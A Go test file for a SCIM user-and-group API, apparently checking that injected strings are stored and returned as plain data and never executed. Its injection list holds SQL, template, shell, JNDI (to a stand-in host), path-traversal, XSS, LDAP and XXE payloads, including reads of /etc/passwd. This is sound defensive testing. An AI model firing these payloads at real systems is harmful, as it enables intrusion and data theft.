package scimadapter_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/usherhq/usher/internal/store"
	"github.com/usherhq/usher/internal/storetest"
)

// injections are texts that are commands to somebody: databases, templates, shells, browsers, loggers.
var injections = []string{
	`' OR '1'='1`, `'; DROP TABLE users; --`, `" OR ""="`, `1; SELECT pg_sleep(5)`, `' UNION SELECT id, name FROM tenants --`, `\'; DELETE FROM groups; --`, `$1`, `?`, `%`, `_%_`, `') OR 1=1 /*`,
	`'||(SELECT version())||'`, `x' AND 1=(SELECT COUNT(*) FROM access_tokens) --`, `admin'/*`, `$$; DROP TABLE seats; $$`, `E'\x27'`, `{"$ne":null}`, `${7*7}`, `{{7*7}}`, `#{7*7}`, `<%= 7*7 %>`,
	`${jndi:ldap://x.example/a}`, `$(touch x)`, "`id`", `| cat /etc/passwd`, `../../../etc/passwd`, `..\..\windows`, `<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `=cmd|' /C calc'!A0`, `%s%s%n`, `%27%20OR%201%3D1`,
	`*)(uid=*))(|(uid=*`, `]]><!ENTITY x SYSTEM "file:///etc/passwd">`,
}

// TestTextsAreDataAndNeverCommands puts commands into every place that takes a text. They come back as they were sent, find who
// has them and nobody else, and do nothing. There is no secret of a client to lock out for many guesses: a token is signed and
// kept nowhere.
//
// Conformance: P-7-05
func TestTextsAreDataAndNeverCommands(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		w, other := newWorld(t, db), newWorld(t, db)
		theirs := "/Users/" + other.create("theirs")
		before := other.want(http.StatusOK, "GET", theirs, "").text
		for _, text := range injections {
			written := literal(text)
			a := w.do("POST", "/Users", `{"userName":`+written+`,"externalId":`+written+`,"title":`+written+`,"emails":[{"value":`+written+`,"type":`+written+`}],"`+enterprise+`":{"department":`+written+`}}`)
			if a.status != http.StatusCreated || a.str("userName") != text || a.str("externalId") != text || a.str("title") != text || a.str(enterprise, "department") != text {
				t.Errorf("%q answered %d %s", text, a.status, a.text)
				continue
			}
			group := w.want(http.StatusCreated, "POST", "/Groups", `{"displayName":`+written+`,"members":[{"value":`+literal(a.str("id"))+`}]}`)
			if group.str("displayName") != text {
				t.Errorf("%q as a group is %s", text, group.text)
			}
			for _, filter := range []string{
				"userName eq " + written, "externalId eq " + written, "title eq " + written, "emails[type eq " + written + " and value eq " + written + "]", enterprise + ":department sw " + written,
				"userName co " + written + " and title ew " + written + " and id eq " + literal(a.str("id")), "groups.display eq " + written,
			} {
				if found := w.want(http.StatusOK, "GET", filtered("/Users", filter), ""); found.at("totalResults") != 1.0 {
					t.Errorf("%s finds %s", filter, found.text)
				}
			}
			if found := w.want(http.StatusOK, "GET", filtered("/Groups", "displayName eq "+written), ""); found.at("totalResults") != 1.0 {
				t.Errorf("a group %q is found as %s", text, found.text)
			}
			user := "/Users/" + a.str("id")
			escaped := url.QueryEscape(text)
			for _, request := range [][3]string{
				{"GET", "/Users/" + url.PathEscape(text)}, {"GET", "/Schemas/" + url.PathEscape(text)}, {"GET", "/Users?filter=" + escaped}, {"GET", "/Users?filter=userName+eq+" + escaped}, {"GET", "/Users?sortBy=" + escaped},
				{"GET", "/Users?cursor=" + escaped}, {"GET", "/Users?count=" + escaped}, {"GET", user + "?attributes=" + escaped}, {"DELETE", "/Groups/" + url.PathEscape(text)},
				{"PATCH", user, ops(`{"op":"replace","path":` + written + `,"value":"x"}`)}, {"PATCH", user, ops(`{"op":` + written + `,"path":"title","value":"x"}`)},
				{"PATCH", user, ops(`{"op":"remove","path":` + literal("ims[value eq "+text+"]") + `}`)},
			} {
				got := w.do(request[0], request[1], request[2])
				if got.status >= http.StatusInternalServerError || got.status == http.StatusNoContent || strings.Contains(got.text, "49") && strings.Contains(text, "7*7") && got.str("detail") != "" {
					t.Errorf("%s %s %s answered %d %s", request[0], request[1], request[2], got.status, got.text)
				}
			}
			if after := w.want(http.StatusOK, "GET", user, ""); after.str("title") != text || after.str("meta", "version") != `W/"1"` {
				t.Errorf("%q has changed somebody to %s", text, after.text)
			}
		}
		for _, list := range []string{"/Users", "/Groups"} {
			if all := w.want(http.StatusOK, "GET", list+"?count=1", ""); all.at("totalResults") != float64(len(injections)) {
				t.Errorf("%s has %v resources of %d", list, all.at("totalResults"), len(injections))
			}
		}
		if after := other.want(http.StatusOK, "GET", theirs, "").text; after != before {
			t.Errorf("another tenant's person was\n%s\nand is\n%s", before, after)
		}
	})
}
